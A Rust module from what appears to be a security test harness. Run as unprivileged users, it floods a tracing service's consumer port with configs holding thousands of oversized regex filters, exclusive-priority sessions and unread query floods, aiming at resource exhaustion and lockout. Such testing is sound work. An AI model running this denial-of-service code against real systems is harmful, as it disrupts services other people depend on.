//! Configs with thousands of expressions, and exclusive sessions.

use ferretto_ipc::port::consumer;
use ferretto_proto::{
    DataSourceConfig, EnableTracingRequest, MessageField, TraceConfig, trace_config,
};

use crate::common::{bind_frame, read_frame};
use crate::frame::{Attack, Target, call, push};

pub(crate) const ATTACK: Attack = Attack {
    users: &[65_534, 65_533, 65_532],
    ..Attack::by_nobody(run)
};

fn run(target: &Target) {
    let configs = [enable(expressions()), enable(alone())];
    let query = consumer::Request::QueryServiceState(Default::default());
    let query = call(&query, false);
    loop {
        // Sessions end with their connections.
        let mut sockets = Vec::new();
        for config in configs.iter().cycle().take(8) {
            let Some(socket) = target.consumer_socket() else {
                continue;
            };
            if push(&socket, &bind_frame("ConsumerPort")) && push(&socket, config) {
                // Answers that are never read.
                push(&socket, &query.repeat(100));
                read_frame(&socket);
                sockets.push(socket);
            }
        }
        if !target.goes_on() {
            break;
        }
    }
}

fn enable(config: TraceConfig) -> Vec<u8> {
    let request = EnableTracingRequest {
        trace_config: MessageField::some(config),
        ..Default::default()
    };
    call(&consumer::Request::EnableTracing(request), false)
}

/// Returns an ordinary config.
fn plain() -> TraceConfig {
    let mut config = TraceConfig::default();
    config.buffers.push(trace_config::BufferConfig {
        size_kb: Some(64),
        ..Default::default()
    });
    let source = DataSourceConfig {
        name: Some("honest".into()),
        ..Default::default()
    };
    config.data_sources.push(trace_config::DataSource {
        config: MessageField::some(source),
        ..Default::default()
    });
    config
}

/// Returns a config with as many expressions as fit a frame, each as large as possible.
fn expressions() -> TraceConfig {
    let mut config = plain();
    let expression = |number: u32| format!("(\\w{{9}}|{number}){{9}}").into_bytes();
    config.data_sources[0].producer_name_regex_filter = (0..6000).map(expression).collect();
    config
}

fn alone() -> TraceConfig {
    let mut config = plain();
    config.exclusive_prio = Some(1000);
    config.duration_ms = Some(60_000);
    config
}
